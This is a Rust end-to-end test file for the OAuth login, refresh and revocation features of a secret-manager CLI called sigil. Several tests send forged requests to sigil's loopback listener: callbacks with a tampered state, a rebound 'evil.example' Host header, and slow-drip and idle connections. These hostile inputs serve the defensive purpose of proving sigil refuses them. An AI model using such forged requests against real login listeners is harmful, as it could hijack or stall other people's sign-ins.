//! OAuth end to end against a real authorization server: oidc-provider (tests/oidc/server.mjs)
//! started once per test process on 127.0.0.1. Skipped when node or tests/oidc/node_modules is
//! missing, unless SIGIL_TEST_REQUIRE_OAUTH is set (as `cargo xtask test` does, after
//! installing them).
//!
//! Two drivers play the person at the browser:
//!
//! - tests/oidc/chromium.mjs, headless Chromium through puppeteer-core (the `chromium`
//!   module): for what a person sees, where a real browser is the point. PKCE approved and
//!   denied, the device flow approved, and a form_post answer, whose page submits itself with
//!   JavaScript. It keeps a screenshot of sigil's callback page, its HTML and the response
//!   headers Chromium got, so the tests check that the page shows no code, state or token and
//!   carries the CSP, no-referrer and no-store headers. A missing chromium fails these tests.
//! - tests/oidc/browser.mjs, a fetch-based script with no JavaScript or HTML engine: for the
//!   rest, where a browser adds nothing and the test needs to bend the protocol (a tampered
//!   state, a login held at the listener while the test sends its own requests, idle users,
//!   timeouts, refresh and revocation) and is faster and steadier for it.

mod chromium;
mod retry;

use crate::support::{DEAD_BUS, Sandbox, bin, stderr};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, Instant};

/// `Sandbox::cmd` as a plain `std::process::Command`, for tests that talk to a running child.
fn std_cmd(sb: &Sandbox, name: &str) -> Command {
    let mut c = Command::new(bin(name));
    for (k, _) in std::env::vars_os() {
        let k = k.to_string_lossy().into_owned();
        if k.starts_with("SIGIL_") || k.starts_with("XDG_") {
            c.env_remove(k);
        }
    }
    c.env("SIGIL_HOME", &sb.home)
        .env("HOME", sb.root())
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("NO_COLOR", "1")
        .env_remove("BROWSER")
        .env("DBUS_SESSION_BUS_ADDRESS", DEAD_BUS)
        .env_remove("DISPLAY")
        .current_dir(sb.root());
    c
}

fn oidc_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/oidc")
}

fn node() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|d| d.join("node"))
        .find(|p| p.is_file())
}

/// The running test server. Its stdin stays open for the life of this process; when the
/// process ends the pipe closes and the server exits by itself.
pub(crate) struct Server {
    pub(crate) port: u16,
    _stdin: Mutex<ChildStdin>,
    _child: Mutex<Child>,
}

fn start() -> Result<Server, String> {
    let node = node().ok_or("`node` is not on PATH")?;
    if !oidc_dir().join("node_modules/oidc-provider").is_dir() {
        return Err("tests/oidc/node_modules is missing (npm ci --prefix tests/oidc)".into());
    }
    let mut child = Command::new(node)
        .arg("server.mjs")
        .current_dir(oidc_dir())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        // Its log, for when a test fails in a way the server explains.
        .stderr(
            std::fs::File::create(
                std::env::temp_dir().join(format!("sigil-oidc-{}.log", std::process::id())),
            )
            .map(Stdio::from)
            .unwrap_or_else(|_| Stdio::null()),
        )
        .spawn()
        .map_err(|e| format!("cannot start node: {e}"))?;
    let stdin = child.stdin.take().unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .map_err(|e| e.to_string())?;
    let port = line
        .trim()
        .strip_prefix("PORT ")
        .and_then(|p| p.parse().ok())
        .ok_or_else(|| format!("the server printed {line:?} instead of its port"))?;
    Ok(Server {
        port,
        _stdin: Mutex::new(stdin),
        _child: Mutex::new(child),
    })
}

/// The server, or `None` (with a message) when the test should be skipped.
pub(crate) fn server() -> Option<&'static Server> {
    static SERVER: OnceLock<Result<Server, String>> = OnceLock::new();
    match SERVER.get_or_init(start) {
        Ok(s) => Some(s),
        Err(why) => {
            assert!(
                std::env::var_os("SIGIL_TEST_REQUIRE_OAUTH").is_none(),
                "the OAuth tests need node and the test server: {why}; `cargo xtask test` installs them"
            );
            eprintln!("skipped: {why}; `cargo xtask test` installs what the OAuth tests need");
            None
        }
    }
}

/// One raw HTTP/1.0 exchange with the test server; (status, body).
fn http(port: u16, method: &str, path: &str, form: Option<&str>) -> (u16, String) {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    let body = form.unwrap_or("");
    write!(
        s,
        "{method} {path} HTTP/1.0\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut text = String::new();
    s.read_to_string(&mut text).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, body.to_owned())
}

fn active(srv: &Server, token: &str) -> bool {
    let (_, body) = http(
        srv.port,
        "GET",
        &format!("/__test/active?token={token}"),
        None,
    );
    body.contains("\"active\":true")
}

/// A sandbox whose config.toml knows the test server's clients as providers.
pub(crate) fn sandbox(srv: &Server) -> Sandbox {
    let sb = Sandbox::init();
    let issuer = format!("http://127.0.0.1:{}", srv.port);
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    for (name, client, flows, scopes) in [
        (
            "test",
            "sigil-pkce",
            "[\"pkce\"]",
            "[\"openid\", \"offline_access\"]",
        ),
        (
            "short",
            "sigil-short",
            "[\"pkce\"]",
            "[\"openid\", \"offline_access\"]",
        ),
        (
            "dev",
            "sigil-device",
            "[\"device\"]",
            "[\"openid\", \"offline_access\"]",
        ),
        (
            "devexp",
            "sigil-device-expiring",
            "[\"device\"]",
            "[\"openid\", \"offline_access\"]",
        ),
        ("ci", "sigil-ci", "[\"client-credentials\"]", "[\"api\"]"),
    ] {
        config.push_str(&format!(
            "\n[providers.{name}]\nissuer = \"{issuer}\"\nclient_id = \"{client}\"\nflows = {flows}\nscopes = {scopes}\n"
        ));
    }
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    sb
}

fn browser() -> String {
    format!(
        "{} {}",
        node().unwrap().display(),
        oidc_dir().join("browser.mjs").display()
    )
}

/// `sigil-login ADDR --provider P` with the test browser in the given mode.
fn login(sb: &Sandbox, addr: &str, provider: &str, mode: &str) -> assert_cmd::Command {
    let mut c = sb.cmd("sigil-login");
    c.args([addr, "--provider", provider])
        .env("BROWSER", browser())
        .env("SIGIL_TEST_BROWSER_MODE", mode)
        .timeout(Duration::from_secs(60));
    c
}

fn text(sb: &Sandbox, addr: &str) -> String {
    String::from_utf8(sb.get(addr)).unwrap()
}

fn accounts(sb: &Sandbox) -> String {
    std::fs::read_to_string(sb.home.join("accounts.toml")).unwrap_or_default()
}

/// Marks an account's access token as expired in accounts.toml (the server still honours it:
/// only sigil's idea of the expiry changes).
fn expire(sb: &Sandbox) {
    let text: String = accounts(sb)
        .lines()
        .map(|l| {
            if l.starts_with("expires_at = ") {
                "expires_at = \"2020-01-01T00:00:00Z\"\n".to_owned()
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(sb.home.join("accounts.toml"), text).unwrap();
}

fn stored_nothing(sb: &Sandbox) {
    assert!(!sb.home.join("store/test").exists(), "something was stored");
    assert!(!accounts(sb).contains("oauth"), "{}", accounts(sb));
}

#[test]
fn pkce_login_stores_a_token_set_that_works() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let out = login(&sb, "test/me", "test", "approve")
        .assert()
        .success()
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains("/auth?response_type=code"), "{err}");
    assert!(err.contains("code_challenge_method=S256"), "{err}");
    assert!(
        err.contains("logged in to test as 'test/me' (pkce)"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
    let token = text(&sb, "test/me");
    assert!(active(srv, &token));
    let refresh = text(&sb, "test/me/refresh_token");
    assert!(!refresh.is_empty());
    for secret in [&token, &refresh] {
        assert!(!err.contains(secret.as_str()), "a token was printed: {err}");
    }
    let meta = accounts(&sb);
    assert!(meta.contains("kind = \"oauth\""), "{meta}");
    assert!(meta.contains("provider = \"test\""), "{meta}");
    assert!(meta.contains("scopes = [\"openid\""), "{meta}");
    assert!(meta.contains("expires_at = "), "{meta}");
    assert!(!meta.contains(&token) && !meta.contains(&refresh));
    // A second login without --force is refused before any browser opens.
    let again = login(&sb, "test/me", "test", "approve").assert().failure();
    assert!(stderr(again.get_output()).contains("already exists"));
    // `sigil add --oauth` is the same login.
    sb.cmd("sigil-add")
        .args(["test/other", "--oauth", "--provider", "test"])
        .env("BROWSER", browser())
        .timeout(Duration::from_secs(60))
        .assert()
        .success();
    assert!(active(srv, &text(&sb, "test/other")));
}

#[test]
fn the_browser_gets_no_variable_that_carries_the_identity() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let key = std::fs::read_to_string(sb.identity_file()).unwrap();
    let seen = sb.root().join("browser.env");
    let script = sb.root().join("browser.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nenv > '{}'\nexec {} \"$@\"\n",
            seen.display(),
            browser()
        ),
    )
    .unwrap();
    crate::support::chmod(&script, 0o755);
    login(&sb, "test/me", "test", "approve")
        .env("BROWSER", &script)
        .env("SIGIL_IDENTITY", &key)
        .env("SIGIL_IDENTITY_FILE", sb.identity_file())
        .env("SIGIL_PASSPHRASE_FD", "3")
        .assert()
        .success();
    let env = std::fs::read_to_string(&seen).unwrap();
    assert!(env.contains("SIGIL_TEST_BROWSER_MODE=approve"), "{env}");
    assert!(
        !env.contains("SIGIL_IDENTITY") && !env.contains("SIGIL_PASSPHRASE"),
        "{env}"
    );
}

/// A login the browser script sabotages (`mode`): exit 4, `says` in the error, nothing stored.
fn refused_login(mode: &str, says: &str) {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let out = login(&sb, "test/me", "test", mode)
        .assert()
        .code(4)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains(says), "{err}");
    stored_nothing(&sb);
}

/// The browser's own redirect with a changed state is not the answer to sigil's request: it
/// gets a 400, and the login waits on until its deadline, then says a redirect was refused.
#[test]
fn a_wrong_state_is_refused_and_nothing_is_stored() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let log = sb.root().join("browser.log");
    let out = login(&sb, "test/me", "test", "tamper-state")
        .args(["--timeout", "6s"])
        .env("SIGIL_TEST_BROWSER_LOG", &log)
        .assert()
        .code(4)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains("not completed in time"), "{err}");
    assert!(
        err.contains("a redirect without the state sigil sent was refused"),
        "{err}"
    );
    let log = std::fs::read_to_string(&log).unwrap();
    assert!(log.contains("final 400 "), "{log}");
    stored_nothing(&sb);
}

#[test]
fn denied_consent_stores_nothing() {
    refused_login("deny", "denied");
}

#[test]
fn a_browser_that_never_comes_back_times_out() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let out = login(&sb, "test/me", "test", "idle")
        .args(["--timeout", "1s"])
        .assert()
        .code(4)
        .get_output()
        .clone();
    assert!(
        stderr(&out).contains("not completed in time"),
        "{}",
        stderr(&out)
    );
    stored_nothing(&sb);
}

/// A PKCE login of `test/me` whose browser (browser.mjs in `mode`) waits until the test calls
/// `release`, so that the test reaches the loopback listener first, as another local user
/// could. `port` is the listener's, from the `redirect_uri` in the URL sigil prints.
struct HeldLogin {
    child: Child,
    port: u16,
    gate: PathBuf,
    /// When sigil printed the URL: its wait for the browser starts there.
    shown: Instant,
    seen: String,
    rest: Option<std::thread::JoinHandle<String>>,
}

impl HeldLogin {
    fn start(sb: &Sandbox, mode: &str, args: &[&str]) -> HeldLogin {
        let gate = sb.root().join("go");
        let script = sb.root().join("held-browser.sh");
        // Bounded, so that a test that fails before `release` leaves no loop behind.
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\ni=0\nwhile [ ! -e '{0}' ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n\
                 [ -e '{0}' ] || exit 0\nexec {1} \"$@\"\n",
                gate.display(),
                browser()
            ),
        )
        .unwrap();
        crate::support::chmod(&script, 0o755);
        let mut child = std_cmd(sb, "sigil-login")
            .args(["test/me", "--provider", "test"])
            .args(args)
            .env("BROWSER", &script)
            .env("SIGIL_TEST_BROWSER_MODE", mode)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut err = BufReader::new(child.stderr.take().unwrap());
        let mut seen = String::new();
        let url = loop {
            let mut line = String::new();
            assert!(err.read_line(&mut line).unwrap() > 0, "no URL: {seen}");
            seen.push_str(&line);
            if let Some(u) = line.split_whitespace().find(|w| w.contains("/auth?")) {
                break url::Url::parse(u).unwrap();
            }
        };
        let shown = Instant::now();
        let redirect = url
            .query_pairs()
            .find(|(k, _)| k == "redirect_uri")
            .map(|(_, v)| url::Url::parse(&v).unwrap())
            .expect("no redirect_uri in the authorization URL");
        let rest = std::thread::spawn(move || {
            let mut rest = String::new();
            let _ = err.read_to_string(&mut rest);
            rest
        });
        HeldLogin {
            child,
            port: redirect.port().unwrap(),
            gate,
            shown,
            seen,
            rest: Some(rest),
        }
    }

    fn release(&self) {
        std::fs::write(&self.gate, "").unwrap();
    }

    /// Waits for sigil to end, killing it after `limit`: its exit code (`None` when it had to
    /// be killed) and its stderr.
    fn finish(&mut self, limit: Duration) -> (Option<i32>, String) {
        let end = Instant::now() + limit;
        let code = loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                break status.code();
            }
            if Instant::now() >= end {
                let _ = self.child.kill();
                let _ = self.child.wait();
                break None;
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let rest = self
            .rest
            .take()
            .map(|r| r.join().unwrap())
            .unwrap_or_default();
        (code, format!("{}{rest}", self.seen))
    }
}

impl Drop for HeldLogin {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::write(&self.gate, "");
    }
}

/// `GET target` on the loopback listener as another local program would send it; (status,
/// page), or why there was none.
fn page(port: u16, target: &str) -> std::io::Result<(u16, String)> {
    let mut s = TcpStream::connect(("127.0.0.1", port))?;
    s.set_read_timeout(Some(Duration::from_secs(10)))?;
    write!(s, "GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")?;
    let mut text = String::new();
    s.read_to_string(&mut text)?;
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    Ok((status, body.to_owned()))
}

/// Connections that send nothing, opened before the browser's, hold nothing up. (They were
/// served one at a time, 5 s each: six of them kept the browser waiting 30 s.)
#[test]
fn idle_connections_to_the_listener_do_not_hold_up_the_login() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let mut login = HeldLogin::start(&sb, "approve", &[]);
    let idle: Vec<TcpStream> = (0..6)
        .map(|_| TcpStream::connect(("127.0.0.1", login.port)).unwrap())
        .collect();
    let released = Instant::now();
    login.release();
    let (code, err) = login.finish(Duration::from_secs(60));
    let took = released.elapsed();
    assert_eq!(code, Some(0), "{err}");
    assert!(
        took < Duration::from_secs(10),
        "the login took {took:?} after the browser went: {err}"
    );
    assert!(active(srv, &text(&sb, "test/me")));
    drop(idle);
}

/// A connection that sends a byte a second (and one that sends nothing) cannot keep the login
/// past --timeout: it ends at its deadline with the timeout error. (It used to hang for as
/// long as the bytes kept coming, a new 5 s read timeout after each.)
#[test]
fn a_dripping_connection_cannot_stretch_the_timeout() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let mut login = HeldLogin::start(&sb, "idle", &["--timeout", "3s"]);
    // The drip first: a listener that serves one connection at a time is then stuck in it.
    let mut drip = TcpStream::connect(("127.0.0.1", login.port)).unwrap();
    let _idle = TcpStream::connect(("127.0.0.1", login.port)).unwrap();
    let dripping = std::thread::spawn(move || {
        let bytes = b"GET /callback?code=x&state="
            .iter()
            .chain([b'x'; 30].iter());
        for byte in bytes.take(30) {
            if drip.write_all(&[*byte]).is_err() {
                break;
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    });
    let (code, err) = login.finish(Duration::from_secs(15));
    let took = login.shown.elapsed();
    assert!(
        took < Duration::from_secs(5),
        "a 3 s login took {took:?} (exit {code:?}): {err}"
    );
    assert_eq!(code, Some(4), "{err}");
    assert!(err.contains("not completed in time"), "{err}");
    stored_nothing(&sb);
    dripping.join().unwrap();
}

/// Redirects without the state sigil sent, which any local user can send, get a 400 and a page
/// and do not end the login: the browser's redirect that follows logs in. (The first one used
/// to end the login with exit 4.)
#[test]
fn redirects_with_a_wrong_state_are_refused_and_the_login_goes_on() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let mut login = HeldLogin::start(&sb, "approve", &[]);
    let forged: Vec<_> = [
        "/callback?code=x&state=wrong",
        "/callback?code=x",
        "/callback?error=access_denied&state=wrong",
    ]
    .into_iter()
    .map(|target| (target, page(login.port, target)))
    .collect();
    login.release();
    let (code, err) = login.finish(Duration::from_secs(60));
    assert_eq!(code, Some(0), "{err}");
    assert!(active(srv, &text(&sb, "test/me")));
    for (target, answer) in forged {
        let (status, body) = answer.unwrap_or_else(|e| panic!("{target}: no answer: {e}"));
        assert_eq!(status, 400, "{target}: {body}");
        assert!(
            body.contains("did not carry the state sigil sent"),
            "{target}: {body}"
        );
    }
}

/// `request` sent as is to the loopback listener: (status, headers, body).
fn raw(port: u16, request: &str) -> std::io::Result<(u16, String, String)> {
    let mut s = TcpStream::connect(("127.0.0.1", port))?;
    s.set_read_timeout(Some(Duration::from_secs(10)))?;
    s.write_all(request.as_bytes())?;
    let mut text = String::new();
    s.read_to_string(&mut text)?;
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    Ok((status, head.to_owned(), body.to_owned()))
}

/// What is not the browser's redirect to this login (a web page that rebound its name to
/// 127.0.0.1 and so sends its own `Host`, another path, another method, a request with no
/// `Host`) gets a short plain refusal, not a page, and the login goes on to succeed. (Before,
/// a foreign `Host` was served like the browser's redirect.)
#[test]
fn requests_that_are_not_the_redirect_get_a_plain_refusal_and_the_login_goes_on() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let mut login = HeldLogin::start(&sb, "approve", &[]);
    let port = login.port;
    let cases = [
        (
            "a rebound name",
            format!("GET /callback?code=x&state=y HTTP/1.1\r\nHost: evil.example:{port}\r\n\r\n"),
            403,
        ),
        (
            "no Host",
            "GET /callback?code=x&state=y HTTP/1.1\r\n\r\n".to_owned(),
            403,
        ),
        (
            "another path",
            format!("GET /favicon.ico HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
            404,
        ),
        (
            "another method",
            format!("DELETE /callback HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
            405,
        ),
    ];
    let answers: Vec<_> = cases
        .iter()
        .map(|(what, request, _)| (what, raw(port, request)))
        .collect();
    login.release();
    let (code, err) = login.finish(Duration::from_secs(60));
    assert_eq!(code, Some(0), "{err}");
    assert!(active(srv, &text(&sb, "test/me")));
    for ((what, answer), (_, _, want)) in answers.into_iter().zip(&cases) {
        let (status, head, body) = answer.unwrap_or_else(|e| panic!("{what}: no answer: {e}"));
        assert_eq!(status, *want, "{what}: {head}\n{body}");
        assert!(head.contains("Content-Type: text/plain"), "{what}: {head}");
        assert!(body.len() < 100 && !body.contains('<'), "{what}: {body}");
    }
}

#[test]
fn ctrl_c_cancels_the_login_and_stores_nothing() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let mut c = std_cmd(&sb, "sigil-login");
    let mut child = c
        .args(["test/me", "--provider", "test"])
        .env("BROWSER", browser())
        .env("SIGIL_TEST_BROWSER_MODE", "idle")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("/auth?") {
        line.clear();
        assert!(err.read_line(&mut line).unwrap() > 0, "no URL printed");
    }
    Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    let status = child.wait().unwrap();
    use std::os::unix::process::ExitStatusExt;
    // Killed by SIGINT: the shell reports 130.
    assert_eq!(status.signal(), Some(2), "{status:?}");
    stored_nothing(&sb);
}

/// Runs a device login, playing the user with browser.mjs in `mode`.
pub(crate) fn device_login(sb: &Sandbox, addr: &str, provider: &str, mode: &str) -> (i32, String) {
    device_login_by(sb, addr, provider, mode, "browser.mjs", &[])
}

/// [`device_login`] with the user played by `driver` (a script in tests/oidc) under `env`.
fn device_login_by(
    sb: &Sandbox,
    addr: &str,
    provider: &str,
    mode: &str,
    driver: &str,
    env: &[(&str, &Path)],
) -> (i32, String) {
    let mut c = std_cmd(sb, "sigil-login");
    let mut child = c
        .args([addr, "--provider", provider, "--flow", "device"])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    let mut uri = None;
    let mut code = None;
    let deadline = Instant::now() + Duration::from_secs(20);
    while code.is_none() && Instant::now() < deadline {
        let mut line = String::new();
        if err.read_line(&mut line).unwrap() == 0 {
            break;
        }
        seen.push_str(&line);
        if let Some(u) = line.split_whitespace().find(|w| w.ends_with("/device")) {
            uri = Some(u.to_owned());
        }
        if let Some(c) = line.split("enter the code: ").nth(1) {
            code = Some(c.trim().to_owned());
        }
    }
    if let (Some(uri), Some(code)) = (&uri, &code)
        && mode != "idle"
    {
        let st = Command::new(node().unwrap())
            .arg(oidc_dir().join(driver))
            .args(["--device", uri, code])
            .env("SIGIL_TEST_BROWSER_MODE", mode)
            .envs(env.iter().copied())
            .status()
            .unwrap();
        assert!(st.success());
    }
    let mut rest = String::new();
    err.read_to_string(&mut rest).unwrap();
    seen.push_str(&rest);
    let status = child.wait().unwrap();
    (status.code().unwrap_or(-1), seen)
}

#[test]
fn device_login_end_to_end() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let (code, err) = device_login(&sb, "dev/me", "dev", "approve");
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("enter the code: "), "{err}");
    assert!(err.contains("/device?user_code="), "{err}");
    let token = text(&sb, "dev/me");
    assert!(active(srv, &token));
    assert!(!err.contains(&token));
    assert!(accounts(&sb).contains("provider = \"dev\""));
}

#[test]
fn device_login_denied_is_access_denied() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let (code, err) = device_login(&sb, "dev/me", "dev", "deny");
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("denied"), "{err}");
    assert!(!accounts(&sb).contains("oauth"));
}

#[test]
fn an_expired_device_code_says_so() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    let (code, err) = device_login(&sb, "dev/me", "devexp", "idle");
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("expired"), "{err}");
    assert!(!accounts(&sb).contains("oauth"));
}

#[test]
fn client_credentials_take_the_secret_from_stdin_or_env() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    sb.cmd("sigil-login")
        .args(["ci/bot", "--provider", "ci", "--client-secret-stdin"])
        .write_stdin("ci-secret-for-tests\n")
        .assert()
        .success();
    assert!(active(srv, &text(&sb, "ci/bot")));
    sb.cmd("sigil-add")
        .args(["ci/env", "--oauth", "--provider", "ci"])
        .env("SIGIL_CLIENT_SECRET", "ci-secret-for-tests")
        .assert()
        .success();
    assert!(active(srv, &text(&sb, "ci/env")));
    // A wrong secret is an authentication failure that never echoes the secret.
    let out = sb
        .cmd("sigil-login")
        .args(["ci/bad", "--provider", "ci"])
        .env("SIGIL_CLIENT_SECRET", "wrong-secret-value")
        .assert()
        .code(4)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(err.contains("invalid_client"), "{err}");
    assert!(!err.contains("wrong-secret-value"), "{err}");
    // Without any secret the flow says where one can come from.
    let out = sb
        .cmd("sigil-login")
        .args(["ci/none", "--provider", "ci"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(
        stderr(&out).contains("SIGIL_CLIENT_SECRET"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn get_refreshes_an_expired_token_and_stores_the_rotated_refresh_token() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let (old, old_refresh) = (text(&sb, "test/me"), text(&sb, "test/me/refresh_token"));
    // Not due: printed as stored.
    assert_eq!(text(&sb, "test/me"), old);
    expire(&sb);
    // --no-refresh hands out what is stored, and changes nothing.
    let before = accounts(&sb);
    let out = sb
        .cmd("sigil-get")
        .args(["test/me", "--no-refresh"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    assert_eq!(String::from_utf8(out).unwrap().trim_end(), old);
    assert_eq!(accounts(&sb), before);
    let new = text(&sb, "test/me");
    assert_ne!(new, old);
    assert!(active(srv, &new));
    let new_refresh = text(&sb, "test/me/refresh_token");
    assert_ne!(
        new_refresh, old_refresh,
        "the rotated refresh token was not stored"
    );
    assert!(!accounts(&sb).contains("2020-01-01"), "{}", accounts(&sb));
    // The next get needs no refresh.
    assert_eq!(text(&sb, "test/me"), new);
    // `sigil check` refreshes for real, and stores the result.
    let out = sb.cmd("sigil-check").arg("test/me").assert().success();
    assert!(stderr(out.get_output()).contains("1 OAuth account refreshed"));
    let checked = text(&sb, "test/me");
    assert_ne!(checked, new);
    assert!(active(srv, &checked));
    // The audit log has the login and the refreshes, and none of the tokens.
    let log = std::fs::read_to_string(sb.home.join("audit.log")).unwrap();
    for event in [
        "\"event\":\"login\",\"addresses\":[\"test/me\"],\"outcome\":\"ok\"",
        "\"event\":\"refresh\",\"addresses\":[\"test/me\"],\"outcome\":\"ok\"",
    ] {
        assert!(log.contains(event), "{event} in {log}");
    }
    for token in [&old, &new, &checked, &old_refresh, &new_refresh] {
        assert!(!log.contains(token.as_str()), "a token in the audit log");
    }
}

#[test]
fn a_really_expired_token_is_refreshed() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "short/me", "short", "approve")
        .assert()
        .success();
    let old = String::from_utf8(
        sb.cmd("sigil-get")
            .args(["-n", "--no-refresh", "short/me"])
            .assert()
            .success()
            .get_output()
            .stdout
            .clone(),
    )
    .unwrap();
    std::thread::sleep(Duration::from_secs(5));
    assert!(!active(srv, &old), "the server still takes the old token");
    let new = text(&sb, "short/me");
    assert_ne!(new, old);
    assert!(active(srv, &new));
}

#[test]
fn racing_gets_refresh_once() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    expire(&sb);
    let children: Vec<_> = (0..3)
        .map(|_| {
            let mut c = std_cmd(&sb, "sigil-get");
            c.args(["-n", "test/me"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let outs: Vec<_> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    for o in &outs {
        // A second refresh would reuse the rotated refresh token: invalid_grant, exit 4.
        assert!(o.status.success(), "{}", stderr(o));
    }
    let first = &outs[0].stdout;
    assert!(outs.iter().all(|o| &o.stdout == first), "different tokens");
    assert!(active(srv, &String::from_utf8(first.clone()).unwrap()));
}

#[test]
fn rm_revokes_the_tokens() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let token = text(&sb, "test/me");
    assert!(active(srv, &token));
    rm_revoking(srv, &sb, &token);
}

/// `sigil rm test/me --yes`, which deletes the account and revokes its tokens without a
/// warning: `token` no longer works.
fn rm_revoking(srv: &Server, sb: &Sandbox, token: &str) {
    let out = sb
        .cmd("sigil-rm")
        .args(["test/me", "--yes"])
        .assert()
        .success()
        .get_output()
        .clone();
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    assert!(!active(srv, token), "the access token still works");
    assert!(!accounts(sb).contains("test/me"));
}

#[test]
fn rm_still_deletes_when_revocation_fails() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    // The provider now points its revocation endpoint at a closed port.
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config = config.replacen(
        "[providers.test]\n",
        "[providers.test]\nrevoke_url = \"http://127.0.0.1:9/revoke\"\n",
        1,
    );
    std::fs::write(sb.home.join("config.toml"), config).unwrap();
    let out = sb
        .cmd("sigil-rm")
        .args(["test/me", "--yes"])
        .assert()
        .success()
        .get_output()
        .clone();
    assert!(
        stderr(&out).contains("could not revoke"),
        "{}",
        stderr(&out)
    );
    assert!(!sb.home.join("store/test/me").exists());
}

#[test]
fn a_refresh_token_revoked_on_the_server_means_log_in_again() {
    let Some(srv) = server() else { return };
    let sb = sandbox(srv);
    login(&sb, "test/me", "test", "approve").assert().success();
    let refresh = text(&sb, "test/me/refresh_token");
    let (status, _) = http(
        srv.port,
        "POST",
        "/token/revocation",
        Some(&format!(
            "client_id=sigil-pkce&token_type_hint=refresh_token&token={refresh}"
        )),
    );
    assert_eq!(status, 200);
    expire(&sb);
    let out = sb
        .cmd("sigil-get")
        .arg("test/me")
        .assert()
        .code(4)
        .get_output()
        .clone();
    let err = stderr(&out);
    assert!(out.stdout.is_empty());
    assert!(err.contains("invalid_grant"), "{err}");
    assert!(
        err.contains("sigil login test/me --provider test --force"),
        "{err}"
    );
    assert!(!err.contains(&refresh));
}

#[test]
fn an_unreachable_server_is_an_authentication_failure() {
    let sb = Sandbox::init();
    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
    config.push_str(
